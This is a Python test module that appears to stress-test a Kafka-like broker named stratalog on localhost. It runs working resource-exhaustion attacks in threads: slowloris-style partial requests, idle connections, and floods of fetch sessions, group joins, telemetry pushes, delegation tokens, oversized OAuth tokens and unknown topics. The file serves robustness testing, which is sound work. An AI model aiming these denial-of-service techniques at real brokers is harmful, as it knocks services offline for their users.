"""Clients without a right that take what all share: memory, connections, sessions, names. A process of their own.

In: the ports of a broker, the seconds to pause between two steps, and when to end (the end of the input). Out: the
steps of each attack. It attacks 127.0.0.1 alone, from 127.0.0.2, and waits for nothing that it does not get.
"""

import base64
import json
import os
import socket
import struct
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial
from types import TracebackType
from typing import Self
from uuid import uuid4

import msgspec
from tests.wire_client import Wire

from stratalog.wire.compression import ZSTD, compress
from stratalog.wire.messages.create_delegation_token import (
    CreatableRenewers,
    CreateDelegationTokenRequest,
)
from stratalog.wire.messages.fetch import FetchPartition, FetchRequest, FetchTopic
from stratalog.wire.messages.get_telemetry_subscriptions import GetTelemetrySubscriptionsRequest
from stratalog.wire.messages.join_group import JoinGroupRequest, JoinGroupRequestProtocol
from stratalog.wire.messages.metadata import MetadataRequest, MetadataRequestTopic
from stratalog.wire.messages.push_telemetry import PushTelemetryRequest
from stratalog.wire.messages.sasl_authenticate import SaslAuthenticateRequest
from stratalog.wire.messages.sasl_handshake import SaslHandshakeRequest

HOST = "127.0.0.2"
WORD = "planted-password"
KIB = 1 << 10
TIMEOUT_S = 30
ASK = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
Steps = Iterator[None]


class Target(msgspec.Struct):
    """The ports of a broker; `share` is how many connections one attack holds."""

    sasl: int
    monitor: int
    share: int
    pause_s: float


def logged_in(port: int, user: str, source: str = HOST) -> Wire:
    """Return a connection that has logged in. Raises ConnectionError, OSError."""
    wire = Wire(f"127.0.0.1:{port}", source=source)
    try:
        wire.ask(1, SaslHandshakeRequest(mechanism="PLAIN"))
        token = f"\0{user}\0{WORD}".encode()
        answer = wire.ask(2, SaslAuthenticateRequest(auth_bytes=token))
        assert not answer.error_code, answer
    except BaseException:
        wire.close()
        raise
    return wire


def half_requests(target: Target, user: str, frame: int, sent: int) -> Steps:
    """Hold half requests, a byte more with each step; come again where the broker ends them."""
    part = struct.pack(">ihh", frame, 18, 0) + bytes(sent)
    held: list[tuple[Wire, int]] = []
    try:
        while True:
            for _ in range(min(8, target.share - len(held))):
                wire = logged_in(target.sasl, user) if user else opened(target.sasl)
                wire.socket.setblocking(False)
                held.append((wire, 0))
            sent_now = [(wire, more(wire.socket, part, at)) for wire, at in held]
            held = [(wire, at) for wire, at in sent_now if at >= 0]
            for wire, at in sent_now:
                if at < 0:
                    wire.close()
            yield
    finally:
        for wire, _ in held:
            wire.close()


def opened(port: int) -> Wire:
    return Wire(f"127.0.0.1:{port}", source=HOST)


def more(one: socket.socket, part: bytes, at: int) -> int:
    """Send more of a part, then single bytes; return how much is sent, -1 where the connection has ended."""
    view = memoryview(part)
    try:
        while at < len(part):
            at += one.send(view[at:])
        one.send(b"x")
    except BlockingIOError:
        pass
    except OSError:
        return -1
    try:
        return at if one.recv(1) else -1
    except BlockingIOError:
        return at
    except OSError:
        return -1


def connection(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), TIMEOUT_S, (HOST, 0))


def silent_connections(target: Target) -> Steps:
    """Hold connections that never log in, several of each that the broker has place for."""
    held: list[socket.socket] = []
    try:
        while True:
            held.extend(connection(target.sasl) for _ in range(4))
            while len(held) > 8 * target.share:
                held.pop(0).close()
            yield
    finally:
        for one in held:
            one.close()


def silent_http(target: Target) -> Steps:
    """Ask the monitor once on each connection, and begin a second request that never ends."""
    held: list[socket.socket] = []
    try:
        while True:
            one = connection(target.monitor)
            held.append(one)
            one.sendall(ASK)
            one.settimeout(1)
            with suppress(TimeoutError, ConnectionError):
                one.recv(4096)
                one.sendall(b"G")
            while len(held) > 40:
                held.pop(0).close()
            yield
    finally:
        for one in held:
            one.close()


def fetch_sessions(target: Target) -> Steps:
    """Begin sessions of partitions that do not exist."""
    with logged_in(target.sasl, "mallory") as wire:
        while True:
            for count in (5000, 100, 1):
                wanted = [
                    FetchPartition(partition=one, fetch_offset=0, partition_max_bytes=1)
                    for one in range(count)
                ]
                fetch = FetchRequest(
                    max_wait_ms=0,
                    min_bytes=0,
                    max_bytes=1,
                    session_id=0,
                    session_epoch=0,
                    topics=[FetchTopic(topic_id=uuid4(), partitions=wanted)],
                    forgotten_topics_data=[],
                )
                wire.ask(13, fetch)
                yield


def pending_members(target: Target) -> Steps:
    """Join a group without a member id, with a new long client id each time."""
    with logged_in(target.sasl, "crowd") as wire:
        while True:
            protocol = JoinGroupRequestProtocol(name="range", metadata=bytes(1000))
            join = JoinGroupRequest(
                group_id="crowd",
                session_timeout_ms=1_800_000,
                rebalance_timeout_ms=1_800_000,
                member_id="",
                group_instance_id=None,
                protocol_type="consumer",
                protocols=[protocol],
            )
            wire.ask(5, join)
            yield


def telemetry(target: Target) -> Steps:
    """Push metrics of many attributes and points by instances that are new each time."""
    attribute = field(1, field(1, field(2, field(1, b""))))
    many = field(1, field(1, attribute * 5000) + metric(b"m", 2000))
    names = field(1, b"".join(metric(b"n%d" % one, 1) for one in range(1000)))
    while True:
        with logged_in(target.sasl, "mallory") as wire:
            for data in (many, names):
                asked = GetTelemetrySubscriptionsRequest(client_instance_id=uuid4())
                found = wire.ask(0, asked)
                push = PushTelemetryRequest(
                    client_instance_id=asked.client_instance_id,
                    subscription_id=found.subscription_id,
                    terminating=False,
                    compression_type=ZSTD,
                    metrics=compress(ZSTD, data),
                )
                wire.ask(0, push)
                yield


def number(value: int) -> bytes:
    out = b""
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def field(tag: int, data: bytes) -> bytes:
    """Return a field of protobuf that has a length."""
    return number(tag << 3 | 2) + number(len(data)) + data


def metric(name: bytes, points: int) -> bytes:
    """Return a gauge of OTLP."""
    return field(2, field(2, field(1, name) + field(5, field(1, b"\x21" + bytes(8)) * points)))


def tokens(target: Target) -> Steps:
    """Create tokens of as many renewers as possible."""
    with logged_in(target.sasl, "mallory") as wire:
        while True:
            for count in (5000, 90):
                renewers = [
                    CreatableRenewers(principal_type="User", principal_name="x" * 80 + str(one))
                    for one in range(count)
                ]
                wire.ask(3, CreateDelegationTokenRequest(renewers=renewers, max_lifetime_ms=60_000))
                yield


def large_oauth(target: Target) -> Steps:
    """Log in with tokens of long headers, and with as many empty lists as fit."""
    header = b'{"alg":"RS256","x":[' + b",".join([b"[]"] * 100_000) + b"]}"
    parts = (header, b"{}", bytes(256))
    token = b".".join(base64.urlsafe_b64encode(one).rstrip(b"=") for one in parts)
    message = b"n,,\1auth=Bearer " + token + b"\1\1"
    while True:
        with opened(target.sasl) as wire:
            wire.ask(1, SaslHandshakeRequest(mechanism="OAUTHBEARER"))
            with suppress(OSError):
                wire.ask(2, SaslAuthenticateRequest(auth_bytes=message))
        yield


def invented_names(target: Target) -> Steps:
    """Ask for topics that do not exist, each time by another client id."""
    with logged_in(target.sasl, "mallory") as wire:
        while True:
            topics = [MetadataRequestTopic(name=str(uuid4())) for _ in range(200)]
            request = MetadataRequest(topics=topics, allow_auto_topic_creation=True)
            wire.client_id = str(uuid4()) * 6
            wire.ask(9, request)
            yield


ATTACKS: dict[str, Callable[[Target], Steps]] = {
    "half requests before a login": partial(
        half_requests, user="", frame=512 * KIB - 1, sent=511 * KIB
    ),
    "large half requests": partial(half_requests, user="mallory", frame=90 << 20, sent=2 << 20),
    "small half requests": partial(half_requests, user="crowd", frame=512 * KIB, sent=511 * KIB),
    "silent connections": silent_connections,
    "silent http": silent_http,
    "fetch sessions": fetch_sessions,
    "pending members": pending_members,
    "telemetry": telemetry,
    "tokens": tokens,
    "large OAuth headers": large_oauth,
    "invented names": invented_names,
}


class Exhausting:
    """`with Exhausting(target) as attacks: …`; then `attacks.steps`."""

    def __init__(self, target: Target) -> None:
        self.steps: dict[str, int] = {}
        self._target = target

    def __enter__(self) -> Self:
        self._process = subprocess.Popen(
            [sys.executable, "-m", __name__, msgspec.json.encode(self._target).decode()],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        try:
            printed, _ = self._process.communicate("", 2 * TIMEOUT_S)
        finally:
            self._process.kill()
            self._process.wait(TIMEOUT_S)
        if kind is None:
            self.steps = json.loads(printed)


def attack(target: Target, name: str, ending: threading.Event, steps: Counter[str]) -> None:
    """Attack until the end; begin again where the broker ends a connection."""
    while not ending.is_set():
        try:
            for _ in ATTACKS[name](target):
                steps[name] += 1
                if ending.wait(target.pause_s):
                    break
        except OSError:
            ending.wait(target.pause_s)


def main() -> None:
    os.nice(10)  # the clients beside it are on the same machine
    target = msgspec.json.decode(sys.argv[1], type=Target)
    ending, steps = threading.Event(), Counter[str]()
    threads = [
        threading.Thread(target=attack, args=(target, name, ending, steps), daemon=True)
        for name in ATTACKS
    ]
    for one in threads:
        one.start()
    sys.stdin.read()
    ending.set()
    deadline = time.monotonic() + TIMEOUT_S
    for one in threads:
        one.join(max(0.0, deadline - time.monotonic()))
    print(json.dumps(steps))


if __name__ == "__main__":
    main()
